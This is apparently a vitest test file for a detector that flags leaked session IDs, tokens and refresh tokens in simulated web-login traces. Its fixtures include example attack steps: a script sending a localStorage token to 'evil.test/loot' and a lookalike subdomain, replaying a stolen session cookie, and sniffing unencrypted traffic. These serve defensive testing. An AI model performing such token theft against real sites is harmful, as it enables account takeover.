import { describe, expect, test } from "vitest";
import { leaked, secretName, secretsOf } from "../../../../src/stage/narration/compare/leaked-secrets.ts";
import { traceOf } from "../../everything.ts";

const SHOP = ["server start shop.test", "server add user shivam id 45 role admin password correct-horse"];
const SESSION = [
  ...SHOP,
  "server set mode session",
  "browser open /login",
  "browser submit /login with username=shivam password=correct-horse",
];
const TOKEN = [
  ...SHOP,
  "server set mode jwt-header",
  "server set refresh 7d",
  "browser open /login",
  "page fetch POST /login json username=shivam password=correct-horse",
  "page keep token in localStorage",
];
const kinds = (steps: readonly string[]) => leaked(traceOf(steps)).map(({ kind }) => kind);

describe("secrets", () => {
  test("are what lets its holder in: a session ID, a token, a refresh token", () => {
    expect(secretsOf(traceOf(SESSION))).toMatchObject([{ kind: "session ID", text: "abc123", userId: 45 }]);
    expect(secretsOf(traceOf(TOKEN)).map(({ kind, userId }) => [kind, userId])).toEqual([
      ["token", 45],
      ["refresh token", 45],
    ]);
  });

  test("have their text in their name, except for a token, which is long", () => {
    expect(secretsOf(traceOf(SESSION)).map(secretName)).toEqual(["session ID abc123"]);
    expect(secretsOf(traceOf(TOKEN)).map(secretName)).toEqual(["a token", "refresh token r-35cd0b"]);
  });
});

describe("leaks", () => {
  test("there is none while a secret goes to its own site alone", () => {
    expect(kinds([...SESSION, "browser open /profile"])).toEqual([]);
    expect(kinds([...TOKEN, "page fetch GET /profile bearer localStorage.token"])).toEqual([]);
    expect(kinds([...TOKEN, "page send localStorage.token to /loot"])).toEqual([]);
    expect(
      kinds([
        ...TOKEN,
        "server start www.shop.test",
        "page send localStorage.token to https://www.shop.test/loot",
      ]),
    ).toEqual([]);
  });

  test("a script sends it to another site", () => {
    const evil = ["server start evil.test", "page send localStorage.token to https://evil.test/loot"];
    expect(kinds([...TOKEN, ...evil])).toEqual(["token"]);
    expect(
      kinds([
        ...TOKEN,
        "server start shop.evil.test",
        "page send localStorage.token to https://shop.evil.test/loot",
      ]),
    ).toEqual(["token"]);
  });

  test("an attacker takes it, or sends it himself", () => {
    expect(kinds([...TOKEN, "attacker take token"])).toEqual(["token"]);
    expect(kinds([...SESSION, "attacker send GET /profile cookie sessionId=abc123"])).toEqual(["session ID"]);
    expect(kinds([...SESSION, "attacker send GET /profile cookie sessionId=zzz999"])).toEqual([]);
  });

  test("an attacker hears it where nothing is encrypted", () => {
    const plain = ['server set cookie "Path=/"', "attacker listen", "browser open http://shop.test/profile"];
    expect(kinds([...SESSION.slice(0, 3), plain[0] ?? "", ...SESSION.slice(3), ...plain.slice(1)])).toEqual([
      "session ID",
    ]);
    expect(kinds([...SESSION, "attacker listen", "browser open https://shop.test/profile"])).toEqual([]);
  });
});
